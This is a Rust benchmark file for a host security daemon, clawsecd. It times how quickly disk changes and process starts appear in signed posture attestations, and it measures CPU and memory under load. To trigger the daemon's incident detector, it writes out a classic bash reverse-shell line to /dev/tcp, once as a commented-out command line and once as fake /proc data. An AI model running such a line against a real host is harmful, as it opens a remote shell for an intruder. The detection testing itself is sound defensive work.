//! From a change on disk (or a process start) to a new signed attestation whose posture
//! shows it, through `GetPosture`; idle CPU with all watchers; CPU and memory through a
//! 50,000-file write storm in a watched tree; and, as root, process starts and exits on the
//! live host seen through the kernel's process connector.
//! Run: `cargo bench -p clawsecd --bench events` (about five minutes);
//! `-- --kernel` runs only the live-host kernel-events part.

#![allow(clippy::unwrap_used)]

use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use clawsec_proto::pb;
use clawsec_proto::pb::claw_sec_client::ClawSecClient;
use hyper_util::rt::TokioIo;
use tokio::net::UnixStream;
use tonic::transport::{Channel, Endpoint, Uri};

async fn client(path: &Path) -> ClawSecClient<Channel> {
    let path = path.to_path_buf();
    let ch = Endpoint::try_from("http://localhost")
        .unwrap()
        .connect_with_connector(tower::service_fn(move |_: Uri| {
            let p = path.clone();
            async move { UnixStream::connect(p).await.map(TokioIo::new) }
        }))
        .await
        .unwrap();
    ClawSecClient::new(ch).max_decoding_message_size(16 << 20)
}

/// Waits until `id` has `status` in a posture signed after `after_seq`; returns when seen.
async fn wait(
    c: &mut ClawSecClient<Channel>,
    id: &str,
    status: pb::CheckStatus,
    after_seq: u64,
) -> u64 {
    loop {
        let p = c
            .get_posture(pb::GetPostureRequest::default())
            .await
            .unwrap()
            .into_inner()
            .posture
            .unwrap();
        if p.checks
            .iter()
            .any(|x| x.id == id && x.status == status as i32)
        {
            let a = c
                .get_attestation(pb::GetAttestationRequest::default())
                .await
                .unwrap()
                .into_inner();
            let seq = serde_json::from_str::<serde_json::Value>(&a.document_json).unwrap()["seq"]
                .as_u64()
                .unwrap();
            if seq > after_seq {
                return seq;
            }
        }
        tokio::time::sleep(Duration::from_millis(2)).await;
    }
}

async fn current_seq(c: &mut ClawSecClient<Channel>) -> u64 {
    let a = c
        .get_attestation(pb::GetAttestationRequest::default())
        .await
        .unwrap()
        .into_inner();
    serde_json::from_str::<serde_json::Value>(&a.document_json).unwrap()["seq"]
        .as_u64()
        .unwrap()
}

fn cpu_ticks(pid: u32) -> u64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let after = &stat[stat.rfind(')').unwrap() + 2..];
    let f: Vec<&str> = after.split(' ').collect();
    f[11].parse::<u64>().unwrap() + f[12].parse::<u64>().unwrap()
}

fn status_kib(pid: u32, key: &str) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap()
        .lines()
        .find_map(|l| {
            l.strip_prefix(key)
                .and_then(|v| v.split_whitespace().next()?.parse().ok())
        })
        .unwrap_or(0)
}

fn pct(v: &mut [Duration], q: f64) -> f64 {
    v.sort();
    v[((v.len() - 1) as f64 * q) as usize].as_secs_f64() * 1e3
}

fn write_proc(host: &Path, pid: u32, cmd: &[&str]) {
    let d = host.join(format!("proc/{pid}"));
    std::fs::create_dir_all(&d).unwrap();
    std::fs::write(
        d.join("status"),
        format!(
            "Name:\t{}\nPPid:\t1\nUid:\t1000\t1000\t1000\t1000\nNoNewPrivs:\t0\nSeccomp:\t0\n",
            cmd[0]
        ),
    )
    .unwrap();
    let mut line = Vec::new();
    for a in cmd {
        line.extend_from_slice(a.as_bytes());
        line.push(0);
    }
    std::fs::write(d.join("cmdline"), line).unwrap();
}

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
}

struct Kill(Child);
impl Drop for Kill {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn main() {
    if !std::env::args().any(|a| a == "--kernel") {
        fixture_host();
    }
    live_kernel_events();
}

/// Process starts and exits on the live host, through the kernel's process connector: the
/// `/proc` poll and the incident schedule are ten minutes away, so only kernel events can
/// make them show up. Needs root (the connector needs CAP_NET_ADMIN).
fn live_kernel_events() {
    if !nix::unistd::geteuid().is_root() {
        println!("kernel process events: skipped (needs root)");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let sock = dir.path().join("s.sock");
    std::fs::write(
        dir.path().join("c.toml"),
        format!(
            "state_dir = {:?}\nsocket = {:?}\n[events]\nproc_poll_ms = 600000\n[schedule]\nincident = 600\n",
            dir.path().join("state").display().to_string(),
            sock.display().to_string()
        ),
    )
    .unwrap();
    let log = dir.path().join("daemon.log");
    let daemon = Kill(
        Command::new(env!("CARGO_BIN_EXE_clawsecd"))
            .arg("--config")
            .arg(dir.path().join("c.toml"))
            .env("RUST_LOG", "info")
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&log).unwrap())
            .spawn()
            .unwrap(),
    );
    // The socket is bound before the watchers start; their log lines say when they have.
    let start = Instant::now();
    let text = loop {
        let text = std::fs::read_to_string(&log).unwrap();
        if text.contains("process events") {
            break text;
        }
        assert!(start.elapsed() < Duration::from_secs(60), "{text}");
        std::thread::sleep(Duration::from_millis(20));
    };
    if !text.contains("following the kernel's process events") {
        println!("kernel process events: skipped (no process connector here)");
        return;
    }
    runtime().block_on(async {
        let mut c = client(&sock).await;
        tokio::time::sleep(Duration::from_millis(500)).await;
        let (mut starts, mut exits) = (Vec::new(), Vec::new());
        for _ in 0..100 {
            // Let the previous trial's exits (and the rate gate after them) settle, so each
            // trial starts on a quiet host.
            tokio::time::sleep(Duration::from_millis(400)).await;
            let seq = current_seq(&mut c).await;
            let t = Instant::now();
            // Harmless (it sleeps), but its command line is a classic reverse shell.
            let shell = Command::new("bash")
                .args(["-c", "sleep 60; true # bash -i >& /dev/tcp/198.51.100.77/4444 0>&1"])
                .process_group(0)
                .spawn()
                .unwrap();
            let seq = wait(&mut c, "INC-001", pb::CheckStatus::Fail, seq).await;
            starts.push(t.elapsed());
            // Settle again (bash has started its sleep meanwhile), then end the shell
            // itself: a signal, no new process.
            tokio::time::sleep(Duration::from_millis(400)).await;
            let mut shell = Kill(shell);
            let t = Instant::now();
            shell.0.kill().unwrap();
            wait(&mut c, "INC-001", pb::CheckStatus::Pass, seq).await;
            exits.push(t.elapsed());
            // Its orphaned sleep is harmless; end it outside the measurement.
            Command::new("kill")
                .args(["-9", "--", &format!("-{}", shell.0.id())])
                .status()
                .unwrap();
        }
        println!("kernel process event (reverse shell starts, live host) -> signed posture: n=100 p50 {:.0} ms p99 {:.0} ms max {:.0} ms", pct(&mut starts, 0.5), pct(&mut starts, 0.99), pct(&mut starts, 1.0));
        println!("kernel process event (it exits) -> signed posture: n=100 p50 {:.0} ms p99 {:.0} ms max {:.0} ms", pct(&mut exits, 0.5), pct(&mut exits, 0.99), pct(&mut exits, 1.0));
    });

    // A fork storm: short processes as fast as one shell can start them, for 10 s.
    let pid = daemon.0.id();
    let t0 = cpu_ticks(pid);
    let storm = Command::new("bash")
        .args([
            "-c",
            "end=$((SECONDS+10)); n=0; while [ $SECONDS -lt $end ]; do /bin/true; n=$((n+1)); done; echo $n",
        ])
        .output()
        .unwrap();
    std::thread::sleep(Duration::from_secs(5));
    let ticks = cpu_ticks(pid) - t0;
    println!(
        "fork storm: {} short processes in 10 s (kernel events); daemon CPU {:.1} s over the storm and 5 s after ({:.0}% of one core); VmHWM {} KiB, VmRSS after {} KiB",
        String::from_utf8_lossy(&storm.stdout).trim(),
        ticks as f64 / 100.0,
        ticks as f64 / 100.0 / 15.0 * 100.0,
        status_kib(pid, "VmHWM:"),
        status_kib(pid, "VmRSS:")
    );
}

/// The fixture host: file events, the /proc poll, idle CPU and the write storm.
fn fixture_host() {
    let dir = tempfile::tempdir().unwrap();
    let host: PathBuf = dir.path().join("host");
    let home = host.join("home/alice");
    for d in [".aws", ".openclaw/skills/notes", ".claude"] {
        std::fs::create_dir_all(home.join(d)).unwrap();
    }
    std::fs::create_dir_all(host.join("etc")).unwrap();
    std::fs::write(
        host.join("etc/passwd"),
        "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n",
    )
    .unwrap();
    let cred = home.join(".aws/credentials");
    std::fs::write(&cred, "[default]\n").unwrap();
    std::fs::set_permissions(&cred, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::write(
        home.join(".openclaw/skills/notes/SKILL.md"),
        "---\nname: notes\ndescription: notes\n---\nTake notes.\n",
    )
    .unwrap();
    write_proc(&host, 1, &["/sbin/init"]);
    let sock = dir.path().join("s.sock");
    std::fs::write(
        dir.path().join("c.toml"),
        format!(
            "host_root = {:?}\nstate_dir = {:?}\nsocket = {:?}\n[server]\nassess_per_minute = 600\nassess_burst = 100\n",
            host.display().to_string(),
            dir.path().join("state").display().to_string(),
            sock.display().to_string()
        ),
    )
    .unwrap();
    let daemon = Kill(
        Command::new(env!("CARGO_BIN_EXE_clawsecd"))
            .arg("--config")
            .arg(dir.path().join("c.toml"))
            .env("RUST_LOG", "warn")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let pid = daemon.0.id();
    let start = Instant::now();
    while std::os::unix::net::UnixStream::connect(&sock).is_err() {
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "clawsecd did not start; run it with --check-config --config {}",
            dir.path().join("c.toml").display()
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    runtime().block_on(async {
        let mut c = client(&sock).await;
        // Let the start-up settle.
        tokio::time::sleep(Duration::from_millis(500)).await;

        let mut file = Vec::new();
        for i in 0..100 {
            let seq = current_seq(&mut c).await;
            let (mode, want) = if i % 2 == 0 { (0o644, pb::CheckStatus::Fail) } else { (0o600, pb::CheckStatus::Pass) };
            let t = Instant::now();
            std::fs::set_permissions(&cred, std::fs::Permissions::from_mode(mode)).unwrap();
            wait(&mut c, "SEC-002", want, seq).await;
            file.push(t.elapsed());
        }
        println!("file event (chmod a credential file) -> signed posture: n=100 p50 {:.0} ms p99 {:.0} ms max {:.0} ms", pct(&mut file, 0.5), pct(&mut file, 0.99), pct(&mut file, 1.0));

        let mut procs = Vec::new();
        for i in 0..100u32 {
            let seq = current_seq(&mut c).await;
            let p = 50_000 + i;
            let t = Instant::now();
            write_proc(&host, p, &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"]);
            let seq = wait(&mut c, "INC-001", pb::CheckStatus::Fail, seq).await;
            procs.push(t.elapsed());
            std::fs::remove_dir_all(host.join(format!("proc/{p}"))).unwrap();
            c.assess(pb::AssessRequest { domains: vec!["incident".into()] }).await.ok();
            wait(&mut c, "INC-001", pb::CheckStatus::Pass, seq).await;
        }
        println!("process event (reverse shell starts) -> signed posture: n=100 p50 {:.0} ms p99 {:.0} ms max {:.0} ms (poll interval 1000 ms)", pct(&mut procs, 0.5), pct(&mut procs, 0.99), pct(&mut procs, 1.0));
    });

    let t0 = cpu_ticks(pid);
    std::thread::sleep(Duration::from_secs(60));
    let ticks = cpu_ticks(pid) - t0;
    let hz = 100.0;
    println!(
        "idle CPU over 60 s with all watchers (default schedule, proc poll 1 s): {:.2}% of one core; VmRSS {} KiB",
        ticks as f64 / hz / 60.0 * 100.0,
        status_kib(pid, "VmRSS:")
    );

    let storm = home.join(".openclaw/skills/storm");
    std::fs::create_dir_all(&storm).unwrap();
    let t0 = cpu_ticks(pid);
    let started = Instant::now();
    for i in 0..50_000 {
        std::fs::write(storm.join(format!("f{i:05}.js")), "module.exports = 1;\n").unwrap();
    }
    let wrote = started.elapsed();
    std::thread::sleep(Duration::from_secs(10));
    let ticks = cpu_ticks(pid) - t0;
    println!(
        "write storm: 50,000 files in {:.1} s into a watched skill tree; daemon CPU {:.1} s over the storm and 10 s after; VmHWM {} KiB, VmRSS after {} KiB",
        wrote.as_secs_f64(),
        ticks as f64 / hz,
        status_kib(pid, "VmHWM:"),
        status_kib(pid, "VmRSS:")
    );
}
